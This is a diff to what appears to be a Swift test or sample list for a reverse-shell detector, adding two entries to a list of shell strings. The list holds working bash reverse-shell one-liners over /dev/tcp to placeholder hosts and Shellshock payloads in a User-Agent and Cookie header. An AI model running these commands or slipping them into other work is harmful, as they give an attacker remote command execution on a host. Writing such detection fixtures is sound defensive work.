@@ -25,6 +25,7 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     "C2=10.9.8.7:4444; bash -i >& /dev/tcp/${C2%:*}/${C2#*:} 0>&1",
     "exec {fd}<>/dev/tcp/10.9.8.7/4444; sh -i <&${fd} >&${fd} 2>&${fd}",
     "exec >/dev/tcp/10.9.8.7/4444 0<&1 2>&1; exec bash -i",
+    "exec 3<>/dev/tcp/10.9.8.7/4444; while read -r c <&3; do\n  \"$c\" >&3\ndone",
     // What a request came in with asks for no page.
     "9.9.9.9 - - [3/Nov/2022:10:10:01 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"() { :;}; exec 5<>/dev/tcp/10.9.8.7/4444;cat <&5 | while read c; do $c >&5; done\"",
     "GET / HTTP/1.1\r\nCookie: () { :;}; exec 5<>/dev/tcp/10.9.8.7/4444;cat <&5 | while read c; do $c >&5; done",
@@ -44,6 +45,7 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     "while read l; do $l; done <cmds >/dev/tcp/10.0.0.5/514",
     "exec 3<>/dev/tcp/10.0.0.5/80; echo \"GET $d HTTP/1.0\" >&3; while read l; do $l; done <&3",
     "exec >/dev/tcp/10.0.0.5/514 2>&1; exec bash -i",
+    "exec 3<>/dev/tcp/10.0.0.5/80; IFS= read -r l <&3; set -- $l; printf '%s\\n' \"$2\"",
     "exec 3<>/dev/tcp/$HOST/$PORT; echo PING >&3; read -t 1 r <&3; [ \"$r\" = PONG ] && echo ok; eval \"$NEXT\"",
     "f\"exec 3<>/dev/tcp/10.0.0.5/80; printf '{q}' >&3; IFS= read -r l <&3; set -- $l; printf '%s' \\\"$2\\\"\"; return \"bash -c \" + quote(s)",
     "zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.5 22 && ztcp -c'; cat <&5",
